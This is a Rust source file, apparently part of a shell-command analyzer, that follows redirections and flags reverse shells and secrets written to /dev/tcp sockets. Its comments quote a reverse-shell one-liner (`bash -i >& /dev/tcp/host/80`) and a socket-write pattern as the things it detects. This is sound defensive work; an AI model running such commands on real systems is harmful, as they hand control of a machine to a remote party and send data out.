//! Redirections: what a command reads instead of the terminal, and where its output goes.

use crate::eval::Evaluator;
use crate::eval::file_effects::{WriteKind, is_socket};
use crate::eval::shell_state::ShellState;
use crate::eval::value::{Stream, Tags};
use crate::shell::{Redirect, RedirectOp, RedirectTarget};
use crate::{programs, rules};

/// A file that takes the output of a command.
pub(crate) struct OutputFile {
    target: String,
    append: bool,
    /// Standard output, not only standard error.
    stdout: bool,
}

impl Evaluator<'_> {
    /// The stream the command reads, and the files it writes.
    pub(crate) fn redirects(
        &mut self,
        state: &mut ShellState,
        redirects: &[Redirect],
        stdin: &Stream,
    ) -> (Stream, Vec<OutputFile>) {
        let mut input = stdin.clone();
        let mut outputs = Vec::new();
        for redirect in redirects {
            let is_stdin = redirect.fd.unwrap_or(0) == 0;
            let stream = match (&redirect.target, redirect.op) {
                (RedirectTarget::Heredoc(body), _) => {
                    let text = body.get().map(|word| self.single(state, word, false)).unwrap_or_default();
                    Stream::text(text)
                }
                (RedirectTarget::Word(word), RedirectOp::Text) => {
                    Stream::text(self.single(state, word, false) + "\n")
                }
                (RedirectTarget::Word(word), RedirectOp::Duplicate) => {
                    let to = self.single(state, word, false);
                    // `exec 3<>/dev/tcp/host/80; printf … >&3`
                    if self.connection.is_some_and(|fd| to == fd.to_string())
                        && matches!(redirect.fd, None | Some(1))
                    {
                        outputs.push(OutputFile { target: "/dev/tcp/".into(), append: true, stdout: true });
                    }
                    continue;
                }
                (RedirectTarget::Word(word), op) => {
                    // The shell rejects more than one word here, but only after expanding them.
                    let targets = self.fields(state, word);
                    if targets.iter().any(|target| is_socket(target)) {
                        self.connection = redirect.fd.filter(|fd| *fd > 2).or(self.connection);
                    }
                    if op != RedirectOp::Read {
                        let stdout = matches!(redirect.fd, None | Some(1));
                        let append = op != RedirectOp::Write;
                        let files = targets.iter().cloned();
                        outputs.extend(files.map(|target| OutputFile { target, append, stdout }));
                    }
                    if !matches!(op, RedirectOp::Read | RedirectOp::ReadWrite) {
                        continue;
                    }
                    let mut stream = Stream::None;
                    for target in &targets {
                        let next = match target.as_str() {
                            "/dev/stdin" | "/dev/fd/0" | "/proc/self/fd/0" => stdin.clone(),
                            target => self.read(state, target),
                        };
                        stream = self.origins.join(stream, next);
                    }
                    stream
                }
            };
            if is_stdin {
                input = stream;
            }
        }
        (input, outputs)
    }

    /// `bash -i >& /dev/tcp/host/80`: whoever is at the other end controls the shell.
    pub(crate) fn check_reverse_shell(
        &mut self,
        state: &ShellState,
        argv: &[String],
        outputs: &[OutputFile],
    ) {
        let is_shell = argv.first().is_some_and(|name| programs::is_shell(name));
        if is_shell && outputs.iter().any(|output| is_socket(&output.target)) {
            self.report(&state.machine, &rules::NETWORK_SHELL, argv.join(" "));
        }
    }

    /// Judges the files that receive `out`; returns what is left for the next command in the pipe.
    pub(crate) fn outputs(
        &mut self,
        state: &mut ShellState,
        outputs: Vec<OutputFile>,
        out: Stream,
        no_command: bool,
    ) -> Stream {
        let mut rest = out.clone();
        for output in outputs {
            let content = if output.stdout { out.clone() } else { Stream::Data(Tags::NONE) };
            let nothing = match &content {
                Stream::Text(text, _) => text.is_empty(),
                Stream::None => no_command,
                Stream::Data(_) => false,
            };
            // Another name for the pipe itself.
            if matches!(output.target.as_str(), "/dev/stdout" | "/dev/fd/1" | "/proc/self/fd/1") {
                continue;
            }
            if is_socket(&output.target) {
                if matches!(&content, Stream::Text(text, _) if programs::network::is_answer_route(text)) {
                    let machine = state.machine.clone();
                    self.report(&machine, &rules::ANSWER_AGENT, format!("> {}", output.target));
                }
                if content.tags().has(Tags::SECRET) {
                    self.report(&state.machine, &rules::NETWORK_SECRET, format!("> {}", output.target));
                }
                continue;
            }
            let how = match (output.append, nothing && output.stdout) {
                (true, _) => WriteKind::Append,
                (false, true) => WriteKind::Empty,
                (false, false) => WriteKind::Overwrite,
            };
            self.write(state, &output.target, how, &format!("> {}", output.target));
            self.remember(state, &output.target, content, output.append);
            if output.stdout {
                rest = Stream::None;
            }
        }
        rest
    }
}
